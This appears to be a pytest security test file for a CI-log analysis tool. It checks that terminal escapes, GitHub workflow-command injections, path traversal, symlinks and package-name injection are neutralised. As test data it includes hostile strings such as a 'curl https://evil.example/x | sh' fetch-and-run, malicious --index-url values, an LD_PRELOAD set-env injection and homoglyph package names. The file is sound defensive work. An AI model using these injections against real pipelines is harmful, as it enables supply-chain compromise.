"""`smartmon scan` and `smartmon fix` on hostile repositories and logs: no terminal escapes in text
output, nothing a runner would run as a workflow command, package names from a log never reach a
manifest, and no path out of the workspace (symlinks, `..`, absolute) is read or written."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from smartmon.cli.main import main
from tests.gitrepo import git, make_repo

TS = "2025-04-07T12:57:33.2904078Z "
# An OSC title, a screen clear, a color and a bell: what a hostile file name or log line carries.
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
# File names may hold brackets and `=`: the old `##[name k=v]data` command syntax fits in one.
HOSTILE_NAME = "ci ##[set-output name=pwned]yes" + ESCAPES
WORKFLOW = """\
on: push
jobs:
  build:
    runs-on: ubuntu-18.04
    steps:
      - uses: actions/checkout@v2
      - run: |
          pip install -r requirements.txt
          python -m app
"""


def _log(path: Path, lines: list[str], job: str = "build") -> Path:
    body = [
        f"Complete job name: {job}",
        "##[group]Run pip install -r requirements.txt",
        "##[endgroup]",
        *lines,
        "##[error]Process completed with exit code 1.",
    ]
    path.write_text("".join(TS + line + "\n" for line in body), encoding="utf-8")
    return path


def _cli(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def _runner_inert(out: str) -> None:
    """Every line the runner could parse as a command sits inside one stop-commands block."""
    lines = out.splitlines()
    assert re.fullmatch(r"::stop-commands::[0-9a-f]{32}", lines[0]), lines[0]
    token = lines[0].split("::")[2]
    assert lines[-1] == f"::{token}::"
    assert not any(token in line for line in lines[1:-1])


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_scan_output_of_a_hostile_file_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    repo = make_repo(tmp_path / "r", {f".github/workflows/{HOSTILE_NAME}.yml": WORKFLOW})
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    code, out, _ = _cli(capsys, "scan", "--repo", repo, "--format", fmt)
    assert code == 1  # findings remain (scan exits 1 then, as linters do)
    assert "\x1b" not in out and "\x07" not in out
    if fmt == "json":
        files = {f["file"] for f in json.loads(out)["findings"]}
        assert files == {f".github/workflows/{HOSTILE_NAME}.yml"}  # JSON keeps it, escaped
    else:
        assert "retired_runner" in out and "deprecated_action" in out
        assert "##[set-output name=pwned]" in out  # shown to a person as it is


def test_scan_on_a_runner_wraps_command_like_output(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = make_repo(tmp_path / "r", {f".github/workflows/{HOSTILE_NAME}.yml": WORKFLOW})
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, _ = _cli(capsys, "scan", "--repo", repo, "--fix")
    assert code == 0 and "fixed: " in out
    _runner_inert(out)
    # A clean repository prints nothing extra: the wrapping is only there when needed.
    code, out, _ = _cli(capsys, "scan", "--repo", repo)
    assert code == 0 and out == ""


def test_fix_text_output_strips_escapes_and_is_inert_on_a_runner(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = make_repo(
        tmp_path / "r",
        {f".github/workflows/{HOSTILE_NAME}.yml": WORKFLOW, "requirements.txt": "requests\n"},
    )
    log = _log(
        tmp_path / "build.txt",
        [
            "::add-mask::hunter2",
            f"{ESCAPES}::set-env name=LD_PRELOAD::/tmp/evil.so",
            f"ModuleNotFoundError: No module named 'yaml' {ESCAPES}##[set-output name=x]y hunter2",
        ],
    )
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, err = _cli(capsys, "fix", "--log", log, "--repo", repo)
    assert code == 0, err
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "hunter2" not in out + err
    assert "matched by job names" in out  # the hostile workflow name is in the output...
    _runner_inert(out)  # ...and inert
    assert (repo / "requirements.txt").read_text() == "requests\nPyYAML\n"
    monkeypatch.delenv("GITHUB_ACTIONS")
    code, out, _ = _cli(capsys, "fix", "--log", log, "--repo", repo, "--dry-run")
    assert code == 0 and not out.startswith("::stop-commands::") and "\x1b" not in out


# `No module named …` texts an attacker can make a job print, and what may be added: nothing of
# the injected text; only a curated name when the quoted module itself is a real one ('yaml').
INJECTIONS = [
    ("ModuleNotFoundError: No module named 'yaml; curl x|sh'", ""),
    ("ModuleNotFoundError: No module named 'yaml'; curl https://evil.example/x | sh", "PyYAML"),
    ("ModuleNotFoundError: No module named '--index-url=https://evil.example/simple'", ""),
    ("ModuleNotFoundError: No module named '-e git+https://evil.example/x.git#egg=yaml'", ""),
    ("ModuleNotFoundError: No module named 'reqиests'", ""),  # Cyrillic и
    ("ModuleNotFoundError: No module named 'rеquests'", ""),  # Cyrillic е: reads as requests
    ("ModuleNotFoundError: No module named 'ｙａｍｌ'", ""),  # fullwidth
    ("ModuleNotFoundError: No module named 'evil_pkg_nobody_knows'", ""),
    ("ImportError: No module named yaml --extra-index-url=https://evil.example", "PyYAML"),
    ("/usr/bin/python3: No module named pip --index-url https://evil.example/simple", "pip"),
    ("ERROR: No matching distribution found for --index-url=https://evil.example", ""),
    ("DistributionNotFound: The 'evil-pkg @ git+https://evil.example/x' distribution was not", ""),
]


@pytest.mark.parametrize(("line", "allowed"), INJECTIONS, ids=range(len(INJECTIONS)))
def test_package_name_injection_adds_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], line: str, allowed: str
) -> None:
    manifest = "requests==2.32.3\n"
    repo = make_repo(
        tmp_path / "r",
        {".github/workflows/ci.yml": WORKFLOW, "requirements.txt": manifest, "app.py": ""},
    )
    log = _log(tmp_path / "build.txt", [line])
    code, out, err = _cli(capsys, "fix", "--log", log, "--repo", repo, "--format", "json")
    assert code == 0, err
    after = (repo / "requirements.txt").read_text()
    assert after == manifest + (allowed + "\n" if allowed else ""), json.loads(out)["fixes"]
    changed = git(repo, "status", "--porcelain", "--untracked-files=all")
    assert changed == (" M requirements.txt\n" if allowed else "")
    for word in ("curl", "evil", "index-url", "git+", "-e "):
        assert word not in after


def test_a_manifest_symlinked_out_of_the_workspace_is_never_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside-requirements.txt"
    outside.write_text("requests\n")
    repo = make_repo(tmp_path / "r", {".github/workflows/ci.yml": WORKFLOW})
    (repo / "requirements.txt").symlink_to(outside)
    log = _log(tmp_path / "build.txt", ["ModuleNotFoundError: No module named 'yaml'"])
    code, out, err = _cli(capsys, "fix", "--log", log, "--repo", repo, "--format", "json")
    assert code == 0, err
    assert outside.read_text() == "requests\n"
    assert (repo / "requirements.txt").is_symlink()
    assert not any(f["applied"] for f in json.loads(out)["fixes"])
    assert "symlink refused" in out


def test_a_workflow_folder_symlinked_out_of_the_workspace_is_not_scanned_or_fixed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "ci.yml").write_text(WORKFLOW)
    repo = make_repo(tmp_path / "r", {"README.md": "x\n"})
    (repo / ".github").mkdir()
    (repo / ".github" / "workflows").symlink_to(elsewhere, target_is_directory=True)
    (repo / "action.yml").symlink_to(elsewhere / "ci.yml")
    code, out, _ = _cli(capsys, "scan", "--repo", repo, "--fix", "--format", "json")
    assert code == 0 and json.loads(out)["findings"] == []
    assert (elsewhere / "ci.yml").read_text() == WORKFLOW


@pytest.mark.parametrize("given", ["../outside.yml", "/etc/passwd", ".github/../../outside.yml"])
def test_fix_refuses_a_workflow_path_out_of_the_workspace(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], given: str
) -> None:
    (tmp_path / "outside.yml").write_text(WORKFLOW)
    repo = make_repo(tmp_path / "r", {"requirements.txt": "requests\n"})
    log = _log(tmp_path / "build.txt", ["ModuleNotFoundError: No module named 'yaml'"])
    code, out, err = _cli(capsys, "fix", "--log", log, "--repo", repo, "--workflow", given)
    assert code == 2 and out == ""
    assert err.startswith("smartmon: error: ") and err.count("\n") == 1
    assert "escapes the workspace" in err or "absolute path refused" in err
    assert (tmp_path / "outside.yml").read_text() == WORKFLOW


def test_fix_as_a_subprocess_keeps_escapes_out_of_stderr_too(tmp_path: Path) -> None:
    """The real entry point, warnings included: a log that cannot be read names itself safely."""
    repo = make_repo(tmp_path / "r", {"requirements.txt": "requests\n"})
    bad = tmp_path / f"run{ESCAPES}.zip"
    bad.write_bytes(b"PK\x03\x04 truncated")
    proc = subprocess.run(
        [sys.executable, "-m", "smartmon", "fix", "--log", str(bad), "--repo", str(repo)],
        capture_output=True,
        text=True,
    )
    assert proc.returncode in (0, 2), proc.stderr
    assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr


def test_analyze_text_on_a_runner_is_inert(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    log = _log(
        tmp_path / "build.txt",
        ["ModuleNotFoundError: No module named 'yaml' ##[set-output name=x]y"],
        job="build ##[add-mask]hide-the-report",
    )
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    code, out, _ = _cli(capsys, "analyze", log)
    assert code == 0 and "##[set-output name=x]y" in out
    _runner_inert(out)
